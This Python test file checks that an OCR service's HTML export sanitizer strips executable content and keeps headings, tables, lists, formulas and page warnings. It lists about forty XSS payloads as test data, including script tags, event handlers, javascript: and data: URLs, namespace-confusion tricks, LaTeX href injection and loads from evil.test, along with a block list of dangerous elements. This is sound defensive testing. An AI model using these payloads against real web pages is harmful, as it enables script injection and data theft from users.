"""HTML from a result: its structure, and texts that try to run in a browser."""

import xml.dom.minidom
from html.parser import HTMLParser

import pytest

from ocr_service.core.documents import Block, DocumentResult, PageResult, PageWarning, Timings, WarningCode
from ocr_service.core.errors import RecognitionFailed
from ocr_service.exports.html import to_html
from ocr_service.exports.safe_html import safe_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='imgs/a.jpg' onload='alert(1)'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](https://evil.test/tracker.png)",
    "<javascript:alert(1)>",
    "<table background='https://evil.test/x.png'><tr><td onclick=x>1</td></tr></table>",
    "<table><tr><td style='background:url(//evil.test)'>1</td></tr></table>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<form action='https://evil.test'><input name=a><button>b</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</section></main></body><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    r"$$\href{javascript:alert(1)}{x}$$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$\style{background:url(//evil.test)}{x}$",
    "$<img src=x onerror=alert(1)>$",
    "`<script>alert(1)</script>`",
    "a\x00<scr\x00ipt>alert(1)</script>",
]
# Elements that can hold or load something that runs.
FORBIDDEN = {
    "script",
    "style",
    "svg",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "meta",
    "base",
} | {
    *("link", "details", "video", "audio", "annotation-xml"),
}


class Elements(HTMLParser):
    """The elements of a document, with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.all: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.all.append((tag, dict(attrs)))


def picture(path: str) -> str | None:
    return "data:image/jpeg;base64,/9g=" if path == "imgs/a.jpg" else None


def no_picture(path: str) -> None:
    return None


def document(*pages: PageResult) -> DocumentResult:
    return DocumentResult(pages, Timings(), total=0.0)


def page(markdown: str, **values: object) -> PageResult:
    return PageResult(1, 10, 10, markdown, markdown, (), **values)  # type: ignore[arg-type]


@pytest.mark.parametrize("formulas", [True, False])
@pytest.mark.parametrize("text", HOSTILE)
def test_text_of_a_page_never_runs(text: str, formulas: bool) -> None:
    html = safe_html(f"Before\n\n{text}\n\nafter", picture, formulas)
    assert "Before" in html and "after" in html
    for tag, attributes in Elements(html).all:
        assert tag not in FORBIDDEN
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in ("style", "srcdoc", "background", "action")
            if name == "href":
                assert tag == "a" and (value or "").startswith(("https:", "http:", "mailto:"))
            if name == "src":
                assert (value or "").startswith("data:image/jpeg;base64,")


@pytest.mark.parametrize(
    "text", ["<b1>", "<script>", "a <b", "x < y > z", "<Иванов>", "<!-- note -->", "<?xml?>"]
)
def test_text_that_looks_like_a_tag_is_kept(text: str) -> None:
    html = safe_html(text, no_picture, formulas=False)
    shown = "".join(xml.dom.minidom.parseString(html).documentElement.firstChild.data)  # type: ignore[union-attr]
    assert shown == text


def test_numbered_items_keep_the_numbers_of_the_page() -> None:
    html = safe_html("3. c\n4. d\n6. f", no_picture, formulas=False)
    assert [attributes["value"] for tag, attributes in Elements(html).all if tag == "li"] == ["3", "4", "6"]


def test_structure_is_kept() -> None:
    markdown = (
        "# Title\n\n## Part\n\n- one\n- two\n\n"
        '<table><tr><td colspan="2">a</td></tr><tr><td>b</td><td>c</td></tr></table>\n\n'
        "| x | y |\n|---|---|\n| 1 | 2 |\n\n![](imgs/a.jpg)\n\nInline $x^2$ and\n\n$$\\frac{a}{b}$$"
    )
    html = safe_html(markdown, picture, formulas=True)
    elements = Elements(html).all
    tags = [tag for tag, _ in elements if tag in ("h1", "h2", "ul", "table", "img")]
    assert tags == ["h1", "h2", "ul", "table", "table", "img"]
    assert ("td", {"colspan": "2"}) in elements
    assert [attributes["display"] for tag, attributes in elements if tag == "math"] == ["inline", "block"]
    assert "<mfrac>" in html and "<msup>" in html


def test_dollars_are_text_if_the_engine_writes_no_formulas() -> None:
    assert safe_html("from $a to $b", no_picture, formulas=False) == "<p>from $a to $b</p>\n"


def test_formula_that_cannot_be_converted_keeps_its_source() -> None:
    assert "<code>x^1^2</code>" in safe_html("$x^1^2$", no_picture, formulas=True)


def test_errors_and_warnings_stand_before_the_text_of_their_page() -> None:
    failed = PageResult(2, 0, 0, "", "", (), failure=RecognitionFailed("Page 2 failed."))
    block = Block("text", (0, 0, 1, 1), "", 1, failure=RecognitionFailed("A block failed."))
    partly = PageResult(3, 1, 1, "", "", (block,))
    doubtful = page("Text", warnings=(PageWarning(WarningCode.LOW_CONFIDENCE, "Low <confidence>."),))
    html = to_html(document(doubtful, failed, partly), "A & <b>", formulas=False)
    assert "<title>A &amp; &lt;b&gt;</title>" in html
    assert html.count("<section") == 3
    assert html.index("Low &lt;confidence&gt;.") < html.index("Text</p>")
    assert "Page 2 was not read: Page 2 failed." in html
    assert "Page 3: 1 of 1 blocks were not read completely." in html
